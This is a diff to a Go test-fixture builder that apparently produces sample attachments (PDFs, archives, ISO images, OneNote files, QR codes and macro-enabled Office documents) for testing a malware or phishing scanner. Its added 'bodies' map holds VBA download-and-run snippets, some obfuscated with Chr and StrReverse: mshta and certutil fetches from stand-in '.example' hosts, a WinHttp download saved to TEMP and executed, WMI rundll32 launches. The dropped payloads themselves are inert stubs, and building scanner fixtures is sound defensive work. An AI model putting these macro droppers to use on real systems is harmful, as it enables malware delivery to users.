@@ -43,6 +43,36 @@ func build(builder, args, content string) (b []byte, media string, err error) {
 		}
 		return scantest.Zip(scantest.Entry{Name: "documents.iso", Data: string(iso)}), "application/zip", nil
 	}
+	switch builder {
+	case "pdf-lines": // LINE|LINE
+		var p scantest.PDF
+		p.Page("", strings.Split(args, "|")...)
+		return p.Bytes(), "application/pdf", nil
+	case "pdf-link": // URL LINE|LINE, the whole page is the link
+		var p scantest.PDF
+		n := p.Link(first, 60, 500, 540, 740)
+		p.Page(fmt.Sprintf("/Annots [%d 0 R]", n), strings.Split(rest, "|")...)
+		return p.Bytes(), "application/pdf", nil
+	case "docx-text": // PARAGRAPH|PARAGRAPH
+		var b strings.Builder
+		for _, p := range strings.Split(args, "|") {
+			b.WriteString(scantest.Paragraph(p))
+		}
+		return scantest.DOCX(b.String()), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", nil
+	case "zip-of":
+		return scantest.Zip(entries(args)...), "application/zip", nil
+	case "iso-of":
+		return scantest.ISO(entries(args)...), "application/x-iso9660-image", nil
+	case "zip-iso-of": // NAME-OF-IMAGE FILE|FILE
+		return scantest.Zip(scantest.Entry{Name: first, Data: string(scantest.ISO(entries(rest)...))}), "application/zip", nil
+	case "lock-of", "lock-aes-of": // PASSWORD FILE|FILE
+		return scantest.LockedZip(first, builder == "lock-aes-of", entries(rest)...), "application/zip", nil
+	case "lock-iso-of": // PASSWORD NAME-OF-IMAGE FILE|FILE
+		name, files, _ := strings.Cut(rest, " ")
+		return scantest.LockedZip(first, true, scantest.Entry{Name: name, Data: string(scantest.ISO(entries(files)...))}), "application/zip", nil
+	case "onenote": // FILE|FILE
+		return scantest.OneNote(entries(args)...), "application/onenote", nil
+	}
 	if strings.HasPrefix(builder, "qr-") {
 		return buildCode(strings.TrimPrefix(builder, "qr-"), strings.ReplaceAll(args, `\n`, "\n"))
 	}
@@ -62,6 +92,24 @@ func buildCode(how, text string) ([]byte, string, error) {
 		return scantest.PNG(recolour(q.Draw(scantest.Picture{}), color.NRGBA{20, 60, 160, 255}, color.NRGBA{250, 245, 220, 255})), "image/png", nil
 	case "inverted":
 		return scantest.PNG(recolour(q.Draw(scantest.Picture{}), color.NRGBA{255, 255, 255, 255}, color.NRGBA{0, 0, 0, 255})), "image/png", nil
+	case "logo":
+		return scantest.PNG(q.Draw(scantest.Picture{Scale: 6, Logo: true})), "image/png", nil
+	case "turned":
+		return scantest.PNG(q.Draw(scantest.Picture{Scale: 6, Turn: 7})), "image/png", nil
+	case "photo":
+		return scantest.JPEG(q.Draw(scantest.Picture{Scale: 5, Noise: true})), "image/jpeg", nil
+	case "letter": // URL|LINE|LINE: a page of text with the code below
+		url, lines, _ := strings.Cut(text, "|")
+		var p scantest.PDF
+		n := p.Picture(scantest.NewQR(url).Draw(scantest.Picture{}), "rgb")
+		var b strings.Builder
+		b.WriteString("BT /F1 11 Tf 72 760 Td 15 TL\n")
+		for _, l := range strings.Split(lines, "|") {
+			fmt.Fprintf(&b, "(%s) Tj T*\n", strings.NewReplacer("(", "\\(", ")", "\\)").Replace(l))
+		}
+		b.WriteString("ET\n")
+		p.PageOf("", fmt.Sprintf("/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /P %d 0 R >>", n), b.String()+"q 180 0 0 180 72 380 cm /P Do Q")
+		return p.Bytes(), "application/pdf", nil
 	case "pdf":
 		var p scantest.PDF
 		n := p.Picture(q.Draw(scantest.Picture{}), "gray")
@@ -96,6 +144,35 @@ func photo() image.Image {
 	return img
 }
 
+// entries reads "FILE|FILE"; a shortcut is "NAME.lnk=TARGET ARGUMENTS". Names of programs and scripts hold what harmful writes.
+func entries(args string) (out []scantest.Entry) {
+	for _, a := range strings.Split(args, "|") {
+		name, how, ok := strings.Cut(a, "=")
+		data := harmful(name)
+		if ok {
+			target, arguments, _ := strings.Cut(how, " ")
+			data = scantest.LNK(target, arguments, `%SystemRoot%\System32\imageres.dll`)
+		}
+		out = append(out, scantest.Entry{Name: name, Data: string(data)})
+	}
+	return out
+}
+
+// bodies are what macros do, for the builders that end in "-with".
+var bodies = map[string]string{
+	"shell":    "\tDim p\r\n\tp = Environ(\"PUBLIC\") & \"\\note.cmd\"\r\n\tShell \"cmd /c start /min \" & p, vbHide\r\n",
+	"chr":      "\tDim k\r\n\tk = Chr(87) & Chr(83) & \"cript\" & Chr(46) & StrReverse(\"llehS\")\r\n\tCreateObject(k).Run StrReverse(\"exe.athsm\") & \" https://cdn-docs.example/a\", 0\r\n",
+	"wmi":      "\tSet w = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\")\r\n\tw.Create \"rundll32 \" & Environ(\"APPDATA\") & \"\\lib.dat,Start\"\r\n",
+	"stream":   "\tSet h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\r\n\th.Open \"GET\", \"https://invoice-assets.example/p.txt\", False\r\n\th.Send\r\n\tSet a = CreateObject(\"ADODB.Stream\")\r\n\ta.Type = 1: a.Open: a.Write h.ResponseBody\r\n\ta.SaveToFile Environ(\"TEMP\") & \"\\p.exe\", 2\r\n\tCreateObject(\"Shell.Application\").ShellExecute Environ(\"TEMP\") & \"\\p.exe\"\r\n",
+	"cells":    "\tDim c, t\r\n\tFor Each c In ActiveDocument.Variables\r\n\t\tt = t & Chr(Asc(c.Value) Xor 7)\r\n\tNext\r\n\tCreateObject(\"WScript.Shell\").Exec t\r\n",
+	"certutil": "\tShell \"certutil -urlcache -f https://static-forms.example/f.txt %TEMP%\\f.exe\", 0\r\n\tShell Environ(\"TEMP\") & \"\\f.exe\", 0\r\n",
+	"pivot":    "\tDim p As PivotTable\r\n\tFor Each p In Worksheets(\"Report\").PivotTables\r\n\t\tp.RefreshTable\r\n\tNext\r\n",
+	"sheet":    "\tWorksheets(\"Input\").Activate\r\n\tRange(\"B4\").Select\r\n",
+	"export":   "\tActiveSheet.ExportAsFixedFormat Type:=xlTypePDF, Filename:=ThisWorkbook.Path & \"\\timesheet.pdf\"\r\n",
+	"fields":   "\tDim f\r\n\tFor Each f In ActiveDocument.Fields\r\n\t\tf.Update\r\n\tNext\r\n",
+	"totals":   "\tDim r As Long, t As Currency\r\n\tFor r = 5 To 60\r\n\t\tt = t + Cells(r, 4).Value\r\n\tNext\r\n\tCells(62, 4).Value = t\r\n\tMsgBox \"Total: \" & Format(t, \"0.00\")\r\n",
+}
+
 const (
 	runs = `
 	Dim s, f
@@ -121,6 +198,27 @@ func buildDocument(builder, args string) ([]byte, string, error) {
 	docm := func(proc, body string) []byte { return scantest.DOCM(nil, module("ThisDocument", proc, body)) }
 	xlsm := func(proc, body string) []byte {
 		return scantest.XLSX("", scantest.Entry{Name: "xl/vbaProject.bin", Data: string(scantest.OLE(scantest.VBA("", nil, module("ThisWorkbook", proc, body))...))})
+	}
+	if how, ok := strings.CutSuffix(builder, "-with"); ok { // BODY PROCEDURE
+		name, proc, _ := strings.Cut(args, " ")
+		body, ok := bodies[name]
+		if !ok {
+			return nil, "", fmt.Errorf("no macro %q", name)
+		}
+		switch how {
+		case "docm":
+			return docm(proc, body), "application/vnd.ms-word.document.macroEnabled.12", nil
+		case "xlsm":
+			return xlsm(proc, body), "application/vnd.ms-excel.sheet.macroEnabled.12", nil
+		case "zip-xlsm":
+			return scantest.Zip(scantest.Entry{Name: "document.xlsm", Data: string(xlsm(proc, body))}), "application/zip", nil
+		case "doc":
+			s := append(scantest.VBA("Macros/", nil, module("ThisDocument", proc, body)), scantest.Stream{Path: "WordDocument", Data: make([]byte, 4096)})
+			return scantest.OLE(s...), "application/msword", nil
+		case "xls":
+			s := append(scantest.VBA("_VBA_PROJECT_CUR/", nil, module("ThisWorkbook", proc, body)), scantest.Stream{Path: "Workbook", Data: scantest.Record(0x809, 0, 6, 5, 0)})
+			return scantest.OLE(s...), "application/vnd.ms-excel", nil
+		}
 	}
 	switch builder {
 	case "docx":
@@ -154,9 +252,11 @@ func buildDocument(builder, args string) ([]byte, string, error) {
 // harmful is what a file with such a name would hold in an attack: nothing that works.
 func harmful(name string) []byte {
 	switch ext := name[strings.LastIndexByte(name, '.')+1:]; ext {
-	case "exe":
+	case "exe", "dll", "scr", "pif":
 		return append([]byte("MZ\x90\x00\x03"), bytes.Repeat([]byte{0}, 800)...)
-	case "js", "vbs", "hta":
+	case "bat", "cmd", "ps1":
+		return []byte("rem a sample, it does nothing\r\n")
+	case "js", "jse", "vbs", "wsf", "hta":
 		return []byte("var s = new ActiveXObject('WScript.Shell'); // a sample, it does nothing\r\n")
 	case "lnk":
 		return scantest.LNK("cmd.exe", "/c echo", "")
@@ -182,10 +282,10 @@ func harmless(name string) []byte {
 	return []byte("day;value\r\n1;20\r\n2;21\r\n")
 }
 
-var holes = regexp.MustCompile(`\{(zip:\d|zip|png|b64:[^}]*|table:[^}]*)\}`)
+var holes = regexp.MustCompile(`\{(zip:\d|zip|png|b64:[^}]*|table:[^}]*|divs:[^}]*)\}`)
 
 // fillIn exchanges the holes of a text: {zip} for a small zip with a program in base64, {zip:1} to {zip:3} for a third of it, {png} for a
-// picture, {b64:TEXT} for the base64 of a text, {table:URL} for a QR code as an HTML table.
+// picture, {b64:TEXT} for the base64 of a text, {table:URL} and {divs:URL} for a QR code as an HTML table and as boxes.
 func fillIn(text string) (string, error) {
 	packed := base64.StdEncoding.EncodeToString(scantest.Zip(scantest.Entry{Name: "run.exe", Data: string(harmful("run.exe"))}))
 	return holes.ReplaceAllStringFunc(text, func(h string) string {
@@ -201,6 +301,8 @@ func fillIn(text string) (string, error) {
 			return base64.StdEncoding.EncodeToString(scantest.PNG(photo()))
 		case "b64":
 			return base64.StdEncoding.EncodeToString([]byte(arg))
+		case "divs":
+			return scantest.NewQR(arg).Divs(true)
 		}
 		return scantest.NewQR(arg).Table("bgcolor")
 	}), nil
